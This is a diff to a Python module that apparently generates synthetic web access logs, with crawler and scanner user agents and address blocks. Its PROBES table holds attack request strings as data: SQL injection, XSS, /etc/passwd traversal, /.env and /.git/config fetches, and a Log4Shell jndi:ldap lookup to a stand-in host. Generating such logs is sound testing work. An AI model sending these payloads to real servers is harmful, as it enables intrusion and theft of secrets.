@@ -168,27 +168,73 @@ BROWSERS = (
     ),
     "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0",
 )
-# User agent and address block of robots that name themselves.
-ROBOTS: tuple[tuple[str, str], ...] = (
-    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "66.249.66."),
+# User agent and address block of robots that name themselves, and whether a hosting provider owns it.
+ROBOTS: tuple[tuple[str, str, bool], ...] = (
+    (
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "66.249.66.",
+        False,
+    ),
     (
         "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
         "220.181.108.",
+        False,
     ),
-    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "40.77.167."),
+    (
+        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+        "40.77.167.",
+        True,
+    ),
     (
         (
             "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
             "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"
         ),
         "110.249.201.",
+        False,
     ),
-    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "54.36.148."),
-    ("python-requests/2.32.3", "47.92.118."),
+    (
+        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+        "54.36.148.",
+        False,
+    ),
+    ("python-requests/2.32.3", "47.92.118.", True),
 )
+# Programs that look for holes name themselves, or pretend to be a browser.
+SCANNERS = (
+    *BROWSERS,
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "sqlmap/1.8.4#stable (https://sqlmap.org)",
+    "-",
+)
+# Method, address and status of what they ask for.
+PROBES: tuple[tuple[str, str, int], ...] = (
+    ("GET", "/wp-login.php", 404),
+    ("GET", "/.env", 404),
+    ("GET", "/.git/config", 403),
+    ("POST", "/xmlrpc.php", 404),
+    ("GET", "/phpMyAdmin/index.php", 404),
+    ("GET", "/p/BAB00041?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL--%20", 200),
+    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200),
+    ("GET", "/static/..%2f..%2f..%2fetc/passwd", 400),
+    ("GET", "/cgi-bin/luci/;stok=/locale?form=country", 404),
+    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
+    ("CONNECT", "/", 405),
+    ("TRACE", "/", 405),
+    ("GET", "/backup.sql.gz", 404),
+    ("GET", "/p/BAB00041?x=${jndi:ldap://a.example/b}", 200),
+)
+# What they come across on the way: addresses that a shop may have, or not.
+GUESSES = ("/admin", "/test", "/old", "/dev", "/api/v1/users", "/portal", "/login.do", "/config")
+# First two octets of blocks of hosting providers, and of addresses that nobody on the internet has.
+HOSTED = ("52.20", "47.96", "159.65", "20.36", "121.40")
+BOGONS = ("10.23", "192.168", "172.20", "100.70", "169.254", "198.18", "240.7")
 REFERRERS = ("https://www.baidu.com/", "https://cn.bing.com/", "https://weibo.com/", "")
-# First octets of residential Chinese networks.
-HOME_NETWORKS = ("36", "58", "60", "101", "112", "114", "117", "121", "180", "183", "218", "222")
+# First two octets of residential Chinese networks.
+HOME_NETWORKS = (
+    *("14.144", "36.4", "58.32", "60.176", "101.80", "112.0", "113.64", "114.84", "116.224"),
+    *("117.136", "121.32", "123.112", "124.64", "180.160", "183.0", "218.1", "221.216", "222.64"),
+)
 PAYMENTS: tuple[tuple[str, float], ...] = (
     ("wechat_pay", 45.0),
     ("alipay", 35.0),
